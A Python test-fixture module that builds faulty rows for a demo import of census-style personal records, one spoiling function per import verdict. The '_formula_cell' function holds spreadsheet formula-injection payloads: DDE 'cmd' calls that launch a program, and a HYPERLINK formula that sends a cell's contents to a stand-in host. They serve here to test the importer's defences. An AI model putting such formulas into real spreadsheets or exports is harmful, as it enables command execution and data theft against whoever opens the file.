"""The bad rows that real files have, one function for each verdict the import should give.

Each fault spoils the cells of an otherwise good row in exactly one way, so that the row has one verdict only.
"""

import random
from collections.abc import Callable
from typing import NamedTuple

from demo.numbers import wrong_check_character
from demo.rows import Row
from demo.words import AT


class BadRow(NamedTuple):
    """`row` counts as a spreadsheet does: the header is row 1; `column` is the English name of the spoilt column."""

    row: int
    code: str
    column: str


Spoil = Callable[[Row, random.Random], str]


def _required(row: Row, rng: random.Random) -> str:
    row[AT["name"]] = ""
    return "name"


def _bad_check_character(row: Row, rng: random.Random) -> str:
    row[AT["citizen_number"]] = wrong_check_character(row[AT["citizen_number"]])
    return "citizen_number"


def _bad_number(row: Row, rng: random.Random) -> str:
    number = row[AT["citizen_number"]]
    # One digit short, and a letter O for a nought.
    row[AT["citizen_number"]] = rng.choice([number[:17], f"{number[:8]}O{number[9:]}"])
    return "citizen_number"


def _number_damaged(row: Row, rng: random.Random) -> str:
    # What a spreadsheet makes of a long number.
    row[AT["citizen_number"]] = f"3.41599{row[AT['citizen_number']][6:11]}E+17"
    return "citizen_number"


def _unknown_division(row: Row, rng: random.Random) -> str:
    # Town 999 exists in no demo county, and the code is inside it, so it cannot be a place elsewhere.
    row[AT["residence_division"]] = f"341599999{rng.randrange(200, 220)}"
    return "residence_division"


def _birth_in_future(row: Row, rng: random.Random) -> str:
    row[AT["citizen_number"]] = ""
    # 2091 typed for 1991: still to come for any clock that reads this file.
    row[AT["birth_date"]] = f"20{rng.randrange(88, 99)}{rng.randrange(1, 13):02d}{rng.randrange(1, 29):02d}"
    return "birth_date"


def _bad_date(row: Row, rng: random.Random) -> str:
    row[AT["citizen_number"]] = ""
    row[AT["birth_date"]] = rng.choice(["19890230", "20011301", "19760631", "19990100", "20230229"])
    return "birth_date"


def _sex_contradicts_number(row: Row, rng: random.Random) -> str:
    other = {"男": "女", "女": "男", "1": "2", "2": "1"}
    row[AT["sex"]] = other[row[AT["sex"]]]
    return "sex"


def _birth_contradicts_number(row: Row, rng: random.Random) -> str:
    birth = row[AT["birth_date"]]
    row[AT["birth_date"]] = f"{int(birth[:4]) - rng.randrange(1, 9)}{birth[4:6]}{min(int(birth[6:]), 28):02d}"
    return "birth_date"


# Slips of the input method, and of a hand that types codes.
_NO_SUCH_WORD = {"sex": "难", "ethnic_group": "汗族", "marital_status": "未混", "relation_to_head": "户猪"}
_NO_SUCH_CODE = {"sex": "7", "ethnic_group": "77", "marital_status": "66", "relation_to_head": "XX"}


def _unknown_code(row: Row, rng: random.Random) -> str:
    column = rng.choice(list(_NO_SUCH_WORD))
    wrong = _NO_SUCH_CODE if row[AT["sex"]].isdigit() else _NO_SUCH_WORD
    row[AT[column]] = wrong[column]
    return column


def _formula_cell(row: Row, rng: random.Random) -> str:
    row[AT["note"]] = rng.choice(
        ["=cmd|'/C calc'!A0", '=HYPERLINK("http://example.invalid/?x="&B3,"点击")', "@SUM(1+9)*cmd|'/C calc'!A0"]
    )
    return "note"


def _bad_household(row: Row, rng: random.Random) -> str:
    # Somebody's child, but in no household.
    row[AT["relation_to_head"]] = "20" if row[AT["sex"]].isdigit() else "子"
    row[AT["household_number"]] = ""
    return "household_number"


DUPLICATE = "duplicate_in_file"
SPOILS: dict[str, Spoil] = {
    "required": _required,
    "bad_check_character": _bad_check_character,
    "bad_number": _bad_number,
    "number_damaged": _number_damaged,
    "unknown_division": _unknown_division,
    "birth_in_future": _birth_in_future,
    "bad_date": _bad_date,
    "sex_contradicts_number": _sex_contradicts_number,
    "birth_contradicts_number": _birth_contradicts_number,
    "unknown_code": _unknown_code,
    "formula_cell": _formula_cell,
    "bad_household": _bad_household,
}
CODES = (*SPOILS, DUPLICATE)
